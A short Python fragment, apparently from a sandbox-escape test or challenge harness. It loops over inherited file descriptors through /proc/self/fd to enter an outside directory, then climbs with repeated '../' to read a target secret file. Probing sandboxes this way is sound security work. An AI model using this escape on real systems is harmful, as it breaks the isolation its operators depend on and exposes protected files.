# Stands in a directory by its descriptor and climbs from there.
for number in range(256):
    with suppress(OSError):
        os.chdir(f"/proc/self/fd/{number}")
attempt(lambda: content("../" * 60 + stage["secret"].lstrip("/")))
